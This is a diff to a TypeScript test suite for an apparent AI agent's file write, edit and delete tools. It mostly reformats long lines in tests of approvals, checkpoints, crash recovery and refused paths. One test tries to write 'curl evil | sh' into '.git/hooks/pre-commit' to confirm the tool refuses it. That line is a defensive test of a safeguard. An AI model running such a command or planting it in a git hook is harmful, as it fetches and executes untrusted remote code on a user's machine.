@@ -35,7 +35,10 @@ describe('changeFile (write, edit and delete)', () => {
     const checkpoints = createMemoryCheckpointStore();
     const interaction = new ScriptedInteraction({ approvals: [{ approved: false, reason: 'wrong file' }, { approved: false }] });
     const ctx = makeToolContext({ workspace, interaction, checkpoints });
-    await assert.rejects(writeFileTool.run(ctx, { path: 'a.txt', content: 'replaced' }, neverAborted), (error: unknown) => error instanceof ApprovalRejectedError && /overwriting a.txt: wrong file/.test(error.message));
+    await assert.rejects(
+      writeFileTool.run(ctx, { path: 'a.txt', content: 'replaced' }, neverAborted),
+      (error: unknown) => error instanceof ApprovalRejectedError && /overwriting a.txt: wrong file/.test(error.message),
+    );
     await assert.rejects(deleteFileTool.run(ctx, { path: 'a.txt' }, neverAborted), ApprovalRejectedError);
     assert.equal(workspace.snapshot()['a.txt'], original);
     assert.deepEqual(await checkpoints.list('run-1'), []);
@@ -44,7 +47,11 @@ describe('changeFile (write, edit and delete)', () => {
   it('changes nothing when the approval is deferred', async () => {
     const workspace = createMemoryWorkspace();
     await assert.rejects(
-      writeFileTool.run(makeToolContext({ workspace, interaction: new ScriptedInteraction({ approvals: ['defer'] }) }), { path: 'new.txt', content: 'x' }, neverAborted),
+      writeFileTool.run(
+        makeToolContext({ workspace, interaction: new ScriptedInteraction({ approvals: ['defer'] }) }),
+        { path: 'new.txt', content: 'x' },
+        neverAborted,
+      ),
       (error: unknown) => isDeferredError(error) && error.kind === 'approval',
     );
     assert.deepEqual(workspace.snapshot(), {});
@@ -77,10 +84,37 @@ describe('changeFile (write, edit and delete)', () => {
     await writeFileTool.run(ctx, { path: 'dir/new.txt', content: 'fresh' }, neverAborted);
     await deleteFileTool.run(ctx, { path: 'a.txt' }, neverAborted);
     assert.deepEqual(await checkpoints.list('run-1'), [
-      { runId: 'run-1', stepId: 'S7', seq: 1, path: 'a.txt', operation: 'write', before: { exists: true, text: 'before', sha256: sha256('before') }, afterSha256: sha256('after'), state: 'applied' },
+      {
+        runId: 'run-1',
+        stepId: 'S7',
+        seq: 1,
+        path: 'a.txt',
+        operation: 'write',
+        before: { exists: true, text: 'before', sha256: sha256('before') },
+        afterSha256: sha256('after'),
+        state: 'applied',
+      },
       { runId: 'run-1', stepId: 'S7', seq: 2, path: 'dir', operation: 'createDirectory', before: { exists: false }, afterSha256: undefined, state: 'applied' },
-      { runId: 'run-1', stepId: 'S7', seq: 3, path: 'dir/new.txt', operation: 'write', before: { exists: false }, afterSha256: sha256('fresh'), state: 'applied' },
-      { runId: 'run-1', stepId: 'S7', seq: 4, path: 'a.txt', operation: 'delete', before: { exists: true, text: 'after', sha256: sha256('after') }, afterSha256: undefined, state: 'applied' },
+      {
+        runId: 'run-1',
+        stepId: 'S7',
+        seq: 3,
+        path: 'dir/new.txt',
+        operation: 'write',
+        before: { exists: false },
+        afterSha256: sha256('fresh'),
+        state: 'applied',
+      },
+      {
+        runId: 'run-1',
+        stepId: 'S7',
+        seq: 4,
+        path: 'a.txt',
+        operation: 'delete',
+        before: { exists: true, text: 'after', sha256: sha256('after') },
+        afterSha256: undefined,
+        state: 'applied',
+      },
     ]);
   });
 
@@ -95,7 +129,10 @@ describe('changeFile (write, edit and delete)', () => {
         { approved: false, reason: 'keep my edit' },
       ],
     });
-    await assert.rejects(writeFileTool.run(makeToolContext({ workspace, interaction }), { path: 'a.txt', content: 'v2' }, neverAborted), /rejected overwriting a.txt: keep my edit/);
+    await assert.rejects(
+      writeFileTool.run(makeToolContext({ workspace, interaction }), { path: 'a.txt', content: 'v2' }, neverAborted),
+      /rejected overwriting a.txt: keep my edit/,
+    );
     assert.deepEqual(
       interaction.approvals().map((request) => (request.kind === 'file' ? request.proposal.currentText : undefined)),
       ['v1', 'edited by the user meanwhile'],
@@ -112,16 +149,26 @@ describe('changeFile (write, edit and delete)', () => {
     };
     const interaction = new ScriptedInteraction({ approvals: [approveWhileEditing, approveWhileEditing, approveWhileEditing] });
     const checkpoints = createMemoryCheckpointStore();
-    await assert.rejects(writeFileTool.run(makeToolContext({ workspace, interaction, checkpoints }), { path: 'a.txt', content: 'mine' }, neverAborted), /a\.txt kept changing while this step was changing it \(3 times in a row.*nothing was written/);
+    await assert.rejects(
+      writeFileTool.run(makeToolContext({ workspace, interaction, checkpoints }), { path: 'a.txt', content: 'mine' }, neverAborted),
+      /a\.txt kept changing while this step was changing it \(3 times in a row.*nothing was written/,
+    );
     assert.equal(workspace.snapshot()['a.txt'], 'user edit 3');
     assert.deepEqual(await checkpoints.list('run-1'), []);
   });
 
   it('refuses paths inside .git, escaping paths, and oversized content', async () => {
     const ctx = makeToolContext();
-    await assert.rejects(writeFileTool.run(ctx, { path: '.git/hooks/pre-commit', content: 'curl evil | sh' }, neverAborted), /files inside .git are managed by git/);
+    // The path was relative and inside the workspace: the refusal does not tell to use a relative path.
+    await assert.rejects(
+      writeFileTool.run(ctx, { path: '.git/hooks/pre-commit', content: 'curl evil | sh' }, neverAborted),
+      /: Refused path "\.git\/hooks\/pre-commit": files inside \.git are managed by git and are never changed by tools\.$/,
+    );
     await assert.rejects(writeFileTool.run(ctx, { path: '../escape.txt', content: 'x' }, neverAborted), PathRefusedError);
-    await assert.rejects(writeFileTool.run(ctx, { path: 'big.txt', content: 'x'.repeat(5 * 1024 * 1024 + 1) }, neverAborted), /more than the 5242880-byte limit/);
+    await assert.rejects(
+      writeFileTool.run(ctx, { path: 'big.txt', content: 'x'.repeat(5 * 1024 * 1024 + 1) }, neverAborted),
+      /more than the 5242880-byte limit/,
+    );
   });
 
   it('refuses changes inside .task-planner (journals, snapshots) in any letter case, even under commandsOnly, before asking', async () => {
@@ -129,10 +176,15 @@ describe('changeFile (write, edit and delete)', () => {
     const workspace = createMemoryWorkspace({ '.task-planner/runs/r1.jsonl': journal });
     const interaction = new ScriptedInteraction();
     const ctx = makeToolContext({ workspace, interaction, approvalPolicy: 'commandsOnly' });
-    const intoOwnData = (error: unknown): boolean => error instanceof PathRefusedError && /inside \.task-planner, where Task Planner keeps its run journals/.test(error.message);
+    const intoOwnData = (error: unknown): boolean =>
+      error instanceof PathRefusedError &&
+      /: it is inside \.task-planner, where Task Planner keeps its run journals.*never change files there\.$/i.test(error.message);
     await assert.rejects(writeFileTool.run(ctx, { path: '.task-planner/runs/r1.jsonl', content: '{"type":"run-finished"}\n' }, neverAborted), intoOwnData);
     await assert.rejects(writeFileTool.run(ctx, { path: 'sub/../.Task-Planner/runs/r2.jsonl', content: 'x' }, neverAborted), intoOwnData);
-    await assert.rejects(editFileTool.run(ctx, { path: '.task-planner/runs/r1.jsonl', edits: [{ search: 'started', replace: 'x' }] }, neverAborted), intoOwnData);
+    await assert.rejects(
+      editFileTool.run(ctx, { path: '.task-planner/runs/r1.jsonl', edits: [{ search: 'started', replace: 'x' }] }, neverAborted),
+      intoOwnData,
+    );
     await assert.rejects(deleteFileTool.run(ctx, { path: '.task-planner/runs/r1.jsonl' }, neverAborted), intoOwnData);
     assert.deepEqual(workspace.snapshot(), { '.task-planner/runs/r1.jsonl': journal });
     assert.equal(interaction.requests.length, 0);
@@ -149,8 +201,18 @@ describe('changeFile (write, edit and delete)', () => {
   it('reports a new file as created and an existing one as overwritten or edited', async () => {
     const workspace = createMemoryWorkspace({ 'old.txt': 'one' });
     const ctx = makeToolContext({ workspace });
-    assert.deepEqual(await writeFileTool.run(ctx, { path: 'new.txt', content: 'héllo' }, neverAborted), { path: 'new.txt', operation: 'created', changed: true, bytes: 6 });
-    assert.deepEqual(await writeFileTool.run(ctx, { path: 'old.txt', content: 'two' }, neverAborted), { path: 'old.txt', operation: 'overwritten', changed: true, bytes: 3 });
+    assert.deepEqual(await writeFileTool.run(ctx, { path: 'new.txt', content: 'héllo' }, neverAborted), {
+      path: 'new.txt',
+      operation: 'created',
+      changed: true,
+      bytes: 6,
+    });
+    assert.deepEqual(await writeFileTool.run(ctx, { path: 'old.txt', content: 'two' }, neverAborted), {
+      path: 'old.txt',
+      operation: 'overwritten',
+      changed: true,
+      bytes: 3,
+    });
     assert.equal((await editFileTool.run(ctx, { path: 'old.txt', edits: [{ search: 'two', replace: 'three' }] }, neverAborted)).operation, 'edited');
   });
 
@@ -166,7 +228,8 @@ describe('changeFile (write, edit and delete)', () => {
     const checkpoints = createMemoryCheckpointStore();
     await assert.rejects(
       writeFileTool.run(makeToolContext({ workspace: flaky, checkpoints }), { path: 'a.txt', content: 'replaced' }, neverAborted),
-      (error: unknown) => error instanceof Error && /a\.txt exists but could not be read; nothing was written/.test(error.message) && isWorkspaceError(error.cause, 'not_found'),
+      (error: unknown) =>
+        error instanceof Error && /a\.txt exists but could not be read; nothing was written/.test(error.message) && isWorkspaceError(error.cause, 'not_found'),
     );
     assert.equal(workspace.snapshot()['a.txt'], 'precious');
     assert.deepEqual(await checkpoints.list('run-1'), []);
@@ -201,7 +264,10 @@ describe('changeFile (write, edit and delete)', () => {
     const unreadable: MemoryWorkspace = { ...workspace, readText: refuse, readBytes: refuse };
     const checkpoints = createMemoryCheckpointStore();
     const interaction = new ScriptedInteraction();
-    await assert.rejects(writeFileTool.run(makeToolContext({ workspace: unreadable, checkpoints, interaction }), { path: 'a.txt', content: 'x' }, neverAborted), /permission denied/);
+    await assert.rejects(
+      writeFileTool.run(makeToolContext({ workspace: unreadable, checkpoints, interaction }), { path: 'a.txt', content: 'x' }, neverAborted),
+      /permission denied/,
+    );
     assert.equal(workspace.snapshot()['a.txt'], 'locked');
     assert.equal(interaction.requests.length, 0);
     assert.deepEqual(await checkpoints.list('run-1'), []);
@@ -240,17 +306,31 @@ describe('changeFile (write, edit and delete)', () => {
   it('reports an unchanged write as not changed, and writes right up to the size limit', async () => {
     const workspace = createMemoryWorkspace({ 'a.txt': 'same' });
     const ctx = makeToolContext({ workspace });
-    assert.deepEqual(await writeFileTool.run(ctx, { path: 'a.txt', content: 'same' }, neverAborted), { path: 'a.txt', operation: 'unchanged', changed: false, bytes: 0 });
+    assert.deepEqual(await writeFileTool.run(ctx, { path: 'a.txt', content: 'same' }, neverAborted), {
+      path: 'a.txt',
+      operation: 'unchanged',
+      changed: false,
+      bytes: 0,
+    });
     const limit = 5 * 1024 * 1024;
     assert.equal((await writeFileTool.run(ctx, { path: 'big.txt', content: 'x'.repeat(limit) }, neverAborted)).bytes, limit);
-    await assert.rejects(writeFileTool.run(ctx, { path: 'big.txt', content: 'y'.repeat(limit + 1) }, neverAborted), (error: unknown) => error instanceof WorkspaceError && error.code === 'too_large');
+    await assert.rejects(
+      writeFileTool.run(ctx, { path: 'big.txt', content: 'y'.repeat(limit + 1) }, neverAborted),
+      (error: unknown) => error instanceof WorkspaceError && error.code === 'too_large',
+    );
   });
 
   it('refuses the workspace root and directories as files to write', async () => {
     const workspace = createMemoryWorkspace({ 'dir/a.txt': 'a' });
     const ctx = makeToolContext({ workspace });
-    await assert.rejects(writeFileTool.run(ctx, { path: '.', content: 'x' }, neverAborted), (error: unknown) => error instanceof PathRefusedError && error.reason === 'it names the workspace root, not a file');
-    await assert.rejects(writeFileTool.run(ctx, { path: 'dir', content: 'x' }, neverAborted), (error: unknown) => error instanceof WorkspaceError && error.code === 'is_directory' && error.message === 'dir is a directory, not a file');
+    await assert.rejects(
+      writeFileTool.run(ctx, { path: '.', content: 'x' }, neverAborted),
+      (error: unknown) => error instanceof PathRefusedError && error.reason === 'it names the workspace root, not a file',
+    );
+    await assert.rejects(
+      writeFileTool.run(ctx, { path: 'dir', content: 'x' }, neverAborted),
+      (error: unknown) => error instanceof WorkspaceError && error.code === 'is_directory' && error.message === 'dir is a directory, not a file',
+    );
     assert.deepEqual(workspace.snapshot(), { 'dir/a.txt': 'a' });
   });
 
@@ -293,7 +373,10 @@ describe('changeFile across steps, programs and crashes', () => {
     };
     const checkpoints = createMemoryCheckpointStore();
     const ctx = makeToolContext({ workspace: racing, checkpoints, approvalPolicy: 'commandsOnly' });
-    await assert.rejects(writeFileTool.run(ctx, { path: 'a.txt', content: 'mine' }, neverAborted), /a\.txt kept changing while this step was changing it \(3 times in a row/);
+    await assert.rejects(
+      writeFileTool.run(ctx, { path: 'a.txt', content: 'mine' }, neverAborted),
+      /a\.txt kept changing while this step was changing it \(3 times in a row/,
+    );
     assert.equal(writes, 3);
     assert.equal(memory.snapshot()['a.txt'], 'saved by the user 3');
     assert.deepEqual((await checkpoints.list('run-1')).map((checkpoint) => checkpoint.state), ['abandoned', 'abandoned', 'abandoned']);
@@ -302,10 +385,21 @@ describe('changeFile across steps, programs and crashes', () => {
   it('in a resumed run, does not make again a change of this step that landed before the crash (version = 1 stays 1.1)', async () => {
     const workspace = createMemoryWorkspace({ 'v.txt': 'version = 1.1\n' });
     const checkpoints = createMemoryCheckpointStore();
-    const recorded = await checkpoints.record({ runId: 'run-1', stepId: 'S1', path: 'v.txt', operation: 'edit', before: { exists: true, text: 'version = 1\n', sha256: sha256('version = 1\n') }, afterSha256: sha256('version = 1.1\n') });
+    const recorded = await checkpoints.record({
+      runId: 'run-1',
+      stepId: 'S1',
+      path: 'v.txt',
+      operation: 'edit',
+      before: { exists: true, text: 'version = 1\n', sha256: sha256('version = 1\n') },
+      afterSha256: sha256('version = 1.1\n'),
+    });
     await checkpoints.settle(recorded, 'recovered');
     const interaction = new ScriptedInteraction();
-    const result = await editFileTool.run(makeToolContext({ workspace, checkpoints, interaction }), { path: 'v.txt', edits: [{ search: 'version = 1', replace: 'version = 1.1' }] }, neverAborted);
+    const result = await editFileTool.run(
+      makeToolContext({ workspace, checkpoints, interaction }),
+      { path: 'v.txt', edits: [{ search: 'version = 1', replace: 'version = 1.1' }] },
+      neverAborted,
+    );
     assert.deepEqual(result, { path: 'v.txt', operation: 'edited', changed: true, bytes: 14 });
     assert.equal(workspace.snapshot()['v.txt'], 'version = 1.1\n');
     assert.equal(interaction.requests.length, 0);
@@ -315,7 +409,14 @@ describe('changeFile across steps, programs and crashes', () => {
   it('in a resumed run, asks before changing a file a crash left as neither side of this step’s change, whatever the policy', async () => {
     const workspace = createMemoryWorkspace({ 'v.txt': 'someone else’s text\n' });
     const checkpoints = createMemoryCheckpointStore();
-    const recorded = await checkpoints.record({ runId: 'run-1', stepId: 'S1', path: 'v.txt', operation: 'write', before: { exists: true, text: 'v0\n', sha256: sha256('v0\n') }, afterSha256: sha256('v1\n') });
+    const recorded = await checkpoints.record({
+      runId: 'run-1',
+      stepId: 'S1',
+      path: 'v.txt',
+      operation: 'write',
+      before: { exists: true, text: 'v0\n', sha256: sha256('v0\n') },
+      afterSha256: sha256('v1\n'),
+    });
     await checkpoints.settle(recorded, 'uncertain');
     const interaction = new ScriptedInteraction({ approvals: [{ approved: false, reason: 'not over that' }] });
     const ctx = makeToolContext({ workspace, checkpoints, interaction, approvalPolicy: 'commandsOnly' });
@@ -330,7 +431,10 @@ describe('changeFile across steps, programs and crashes', () => {
     const ctx = makeToolContext({ workspace, interaction, approvalPolicy: 'commandsOnly', writeScope: ['src'] });
     await writeFileTool.run(ctx, { path: 'src/a.ts', content: 'A' }, neverAborted);
     await assert.rejects(writeFileTool.run(ctx, { path: 'docs/b.md', content: 'B' }, neverAborted), /not part of this step/);
-    assert.deepEqual(interaction.approvals().map((request) => (request.kind === 'file' ? [request.proposal.path, request.outsideScope] : [])), [['docs/b.md', true]]);
+    assert.deepEqual(
+      interaction.approvals().map((request) => (request.kind === 'file' ? [request.proposal.path, request.outsideScope] : [])),
+      [['docs/b.md', true]],
+    );
     assert.deepEqual(workspace.snapshot(), { 'docs/b.md': 'b', 'src/a.ts': 'A' });
     // Asked inside its scope (under a policy that asks), the question does not say it is outside.
     const asking = new ScriptedInteraction({ approvals: [{ approved: true }] });
@@ -345,7 +449,10 @@ describe('changeFile across steps, programs and crashes', () => {
     const ctx = makeToolContext({ workspace, approvalPolicy: 'commandsOnly', seenVersions });
     await writeFileTool.run(ctx, { path: 'a.txt', content: 'v1' }, neverAborted);
     await workspace.writeText('a.txt', 'saved by the user');
-    await assert.rejects(writeFileTool.run(ctx, { path: 'a.txt', content: 'v2' }, neverAborted), /a\.txt changed since this step read it .*nothing was written/);
+    await assert.rejects(
+      writeFileTool.run(ctx, { path: 'a.txt', content: 'v2' }, neverAborted),
+      /a\.txt changed since this step read it .*nothing was written/,
+    );
     assert.equal(workspace.snapshot()['a.txt'], 'saved by the user');
   });
 
